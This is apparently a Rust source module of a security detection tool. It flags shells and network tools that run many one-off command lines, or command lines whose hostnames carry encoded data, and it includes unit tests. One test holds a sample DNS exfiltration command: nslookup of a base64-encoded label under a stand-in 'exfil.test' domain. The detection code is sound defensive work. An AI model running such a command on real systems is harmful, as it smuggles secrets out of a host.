//! Command lines that were each seen once: of shells, where there are many, and of whatever sends data in names.

use std::collections::{BTreeMap, BTreeSet};

use super::{Found, Looked, words};
use crate::learning::trust::Lone;
use crate::model::{NodeId, Sym};
use crate::signals::concern::kind_of;
use crate::signals::tools::ToolKind;

/// From so many one-off command lines of a shell under one parent on they are worth a look. Supervisors and health
/// checks have a handful, and the same ones again and again.
const MANY: usize = 12;
/// With fewer than three snapshots everything is seen once: then twice as many are needed.
const MANY_IN_FEW: usize = 24;
/// The least share of one-off ones among all that a shell was given there, in percent.
const SHARE: usize = 75;
/// So many command lines that hold a name with data in it are enough by themselves.
const FEW: usize = 3;

/// The shells, downloaders and network tools of one path under one parent: of older agents each command line is a node
/// of its own, of newer ones all are one node.
#[derive(Default)]
struct Place<'a> {
    nodes: BTreeSet<NodeId>,
    /// Each command line, without what numbers it, with one of its kind and where they were seen.
    lines: BTreeMap<String, (&'a str, Lone)>,
    is_shell: bool,
}

pub(super) fn one_off(looked: &Looked<'_>) -> Vec<Found> {
    let tree = looked.tree();
    let mut places: BTreeMap<(Option<NodeId>, Sym), Place<'_>> = BTreeMap::new();
    let mut node_of = None;
    for (node, line) in looked.profile.all_commands() {
        // Command lines come by node: those of one node together.
        if node_of.is_some_and(|(known, _)| known == node) {
            continue;
        }
        node_of = Some((node, line));
        let kind = kind_of(tree, node);
        let told = ToolKind::SHELL | ToolKind::DOWNLOADER | ToolKind::NETWORK;
        if !kind.intersects(told) || !looked.is_looked_at(node) {
            continue;
        }
        let place = places.entry((tree.parent(node), tree.name_sym(node))).or_default();
        place.is_shell |= kind.contains(ToolKind::SHELL);
        place.nodes.insert(node);
        for (line, presence) in looked.profile.commands(node) {
            if looked.scope.holds(presence) {
                let lone = looked.in_snapshots.get(presence.index()).copied().unwrap_or_default();
                let (_, known) = place.lines.entry(numberless(line)).or_insert((line, Lone::Nowhere));
                *known = known.join(lone);
            }
        }
    }
    let least = if looked.scope.snapshots() < 3 { MANY_IN_FEW } else { MANY };
    // One hint for all places of one executable: an attack seldom stays under one parent.
    let mut by_name: BTreeMap<&str, Found> = BTreeMap::new();
    for ((_, name), place) in &places {
        let once = || place.lines.values().filter(|(_, lone)| *lone != Lone::Several).map(|(line, _)| *line);
        let sends: Vec<&str> = once().filter(|line| sends_data(line)).collect();
        let scripts = once().filter(|line| is_script(line)).count();
        let many = place.is_shell && scripts >= least && scripts * 100 >= place.lines.len() * SHARE;
        let count = if many { scripts } else { sends.len() };
        if !many && sends.len() < FEW {
            continue;
        }
        let example = sends.first().copied().or_else(|| once().find(|line| is_script(line)));
        let found = by_name.entry(tree.strings().get(*name)).or_insert_with(|| Found {
            nodes: Vec::new(),
            count: 0,
            example: example.unwrap_or_default().to_owned(),
            under: tree.strings().get(*name).to_owned(),
        });
        found.count += count as u64;
        found.nodes.extend(&place.nodes);
    }
    by_name.into_values().collect()
}

/// A word of hexadecimal digits from this length on is an id, if it holds a decimal one.
const ID: usize = 6;

/// A command line with a sign for each number and id in it: what differs in them alone is one command, run again.
fn numberless(line: &str) -> String {
    let mut out = String::with_capacity(line.len());
    let mut rest = line;
    while let Some(first) = rest.chars().next() {
        let word = rest.bytes().take_while(u8::is_ascii_alphanumeric).count();
        let Some(text) = rest.get(..word).filter(|text| !text.is_empty()) else {
            out.push(first);
            rest = &rest[first.len_utf8()..];
            continue;
        };
        let is_id = word >= ID
            && text.bytes().all(|b| b.is_ascii_hexdigit())
            && text.bytes().any(|b| b.is_ascii_digit());
        if is_id {
            out.push('#');
        } else {
            let mut after_digit = false;
            for c in text.chars() {
                if c.is_ascii_digit() && !after_digit {
                    out.push('#');
                } else if !c.is_ascii_digit() {
                    out.push(c);
                }
                after_digit = c.is_ascii_digit();
            }
        }
        rest = &rest[word..];
    }
    out
}

/// Whether a shell was given a script on its command line: `sh -c "…"`, `bash -lc "…"`.
fn is_script(line: &str) -> bool {
    let mut words = line.split('\0').skip(1);
    words.any(|word| word.starts_with('-') && !word.starts_with("--") && word.ends_with('c'))
        && words.next().is_some_and(|script| !script.is_empty())
}

/// Whether a command line holds a name outside with data in it.
fn sends_data(line: &str) -> bool {
    let quotes =
        |c: char| matches!(c, '"' | '\'' | '`' | '(' | ')' | ';' | '|' | '&' | '<' | '>' | '$' | '=' | '@');
    line.split(|c: char| c == '\0' || c.is_whitespace() || quotes(c)).any(words::sends_data)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_script_is_what_follows_c() {
        assert!(is_script("sh\0-c\0df -h"));
        assert!(is_script("bash\0-e\0-lc\0df -h"));
        assert!(!is_script("sh\0-c"));
        assert!(!is_script("sh\0/app/run.sh"));
        assert!(!is_script("sh\0--c\0x"));
    }

    #[test]
    fn numbers_and_ids_make_no_new_command() {
        assert_eq!(numberless("sh\0-c\0gzip > /backup/22228.gz"), "sh\0-c\0gzip > /backup/#.gz");
        assert_eq!(numberless("kill 3fa9c01b é v12x3"), "kill # é v#x#");
        assert_eq!(numberless("deadbeef nslookup"), "deadbeef nslookup");
    }

    #[test]
    fn data_is_found_inside_scripts() {
        assert!(sends_data("sh\0-c\0x=$(nslookup \"dGhlIHNlY3JldCBvZiB0aGUgZGF5.exfil.test\")"));
        assert!(!sends_data("sh\0-c\0nslookup www.example.org"));
    }
}
